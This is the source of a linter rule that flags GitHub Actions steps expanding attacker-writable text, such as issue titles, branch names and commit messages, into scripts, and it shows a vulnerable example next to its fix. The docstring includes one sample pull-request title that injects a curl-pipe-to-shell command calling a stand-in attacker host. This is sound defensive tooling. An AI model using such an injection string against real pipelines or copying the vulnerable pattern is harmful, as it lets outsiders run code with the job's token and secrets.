"""Attacker-controlled text expanded into a script.

## What it does
Finds `${{ }}` expressions in a step's `run:` script (or the code input of an action that
runs it: `actions/github-script`'s `script`, and a few others) that expand text anyone can
write: issue and pull request titles and bodies, comment and review bodies, commit messages
and author names, branch names (`github.head_ref`, `github.event.pull_request.head.ref`),
discussion titles and bodies. An expression that only compares such text
(`${{ github.event.issue.title == 'bug' }}`, `contains(...)`) expands to true or false and is
not reported.

## Why is this bad?
GitHub substitutes the expression into the script *before* the shell runs it. A pull request
titled `a"; curl https://evil.example/x | sh; echo "` runs the attacker's command in the job,
with its token and secrets.

## How to fix
Pass the value through an environment variable and quote it in the script: the shell then
reads it as data.

## Example
```yaml
on: issues
permissions:
  contents: read
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Triaging ${{ github.event.issue.title }}"
```

## Use instead
```yaml
on: issues
permissions:
  contents: read
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.issue.title }}
        run: echo "Triaging $TITLE"
```
"""

from fnmatch import fnmatchcase

from infralint.facts.values import known
from infralint.facts.workflows import WorkflowStep
from infralint.parse.gha_expr import is_boolean

ID = "IL1401"
NAME = "gha-script-injection"
CATEGORY = "ci"
SEVERITY = "high"
FACTS = (WorkflowStep,)
FORMATS = ("github-actions",)

# Context values an outsider can write (lower case; `*` is any index or key).
UNTRUSTED = (
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
)
# Actions whose input is code they run (lower-case name: input).
CODE_INPUTS = {
    "actions/github-script": "script",
    "amadevus/pwsh-script": "script",
    "addnab/docker-run-action": "run",
    "mikefarah/yq": "cmd",
}


def check(ctx, step):
    code = CODE_INPUTS.get(step.action)
    script = ("with", code) if code else ("run",)
    for expression in step.expressions:
        if expression.path != script or is_boolean(expression.text):
            continue
        ref = next((r for r in expression.refs if untrusted(r)), None)
        if ref is not None:
            yield ctx.finding(
                step.resource,
                known(expression.text, script, expression.span),
                f"{step.resource.address} expands `{ref}` into its script: anyone who can "
                "write it can run commands in the job; pass it through `env:` and quote the "
                "variable",
            )


def untrusted(ref):
    """Whether the context reference ``ref`` reads text an outsider controls."""
    ref = ref.lower()
    return any(fnmatchcase(ref, pattern) for pattern in UNTRUSTED)
